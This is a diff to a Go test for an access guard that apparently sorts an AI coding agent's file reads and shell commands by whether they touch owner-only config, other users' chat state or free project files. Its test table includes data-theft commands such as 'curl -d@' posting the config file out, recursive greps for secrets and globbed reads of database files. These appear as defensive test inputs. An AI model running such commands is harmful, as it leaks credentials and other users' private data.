@@ -41,7 +41,16 @@ func TestWhatIsForAdminsOnly(t *testing.T) {
 	link(t, filepath.Join(data, "files", theirs), filepath.Join(project, "theirs"))
 	link(t, config, filepath.Join(project, "docs/settings"))
 	link(t, filepath.Join(data, "files", mine), filepath.Join(project, "mine"))
-	r := newReserved(Guard{Homes: []string{home}, Data: data, Files: []string{config}}, FilesConfig{Folder: filepath.Join(data, "files")}, store)
+	mineState, err := store.Folders().Of(t.Context(), own)
+	if err != nil {
+		t.Fatal(err)
+	}
+	theirState, err := store.Folders().Of(t.Context(), other)
+	if err != nil {
+		t.Fatal(err)
+	}
+	state := filepath.Join(data, "agents")
+	r := newReserved(Guard{Homes: []string{home}, Data: data, State: state, Files: []string{config}}, FilesConfig{Folder: filepath.Join(data, "files")}, store)
 
 	free, ours, chats := about{}, about{own: true}, about{other: true, name: "财务群"}
 	read := func(path string) claude.ToolAsk { return askFor(t, "Read", map[string]any{"file_path": path}) }
@@ -71,6 +80,8 @@ func TestWhatIsForAdminsOnly(t *testing.T) {
 		{run("cd .. ; grep -r secret ."), ours}, {run("tar c ~"), ours}, {run("ls -R /"), ours}, {run("cat ~/.lo*/sh*/mag*/*.db"), ours},
 		{run("cat ../.config/magpie/*.toml"), ours}, {run("cp --target-directory=/tmp " + config), ours}, {run("curl -d@" + config + " x"), ours},
 		{run("cat <store/magpie.db"), ours}, {run("(cat store/x)"), ours}, {run("sqlite3 x/magpie.db"), ours},
+		{read(state + "/" + theirState + "/projects/x/y.jsonl"), chats}, {run("cat " + state + "/" + theirState + "/.claude.json"), chats},
+		{read(state + "/" + mineState + "/projects/x/y.jsonl"), free}, {read(state), ours}, {run("cat " + state + "/*/projects/*/*"), ours},
 		{run("cat theirs/1-1-a.pdf"), chats}, {run("cat " + data + "/files/" + theirs + "/*"), chats}, {run("pdftotext theirs/1-1-a.pdf -"), chats},
 		{run("cat " + data + "/files/" + mine + "/1-1-b.pdf"), free}, {run("cat mine/*"), free}, {run("cat " + data + "/files/*/*.pdf"), ours},
 		{run("make test"), free}, {run("go test ./... 2>&1 | head -50"), free}, {run("grep -rn magpie ."), free}, {run("git log --oneline -5"), free},
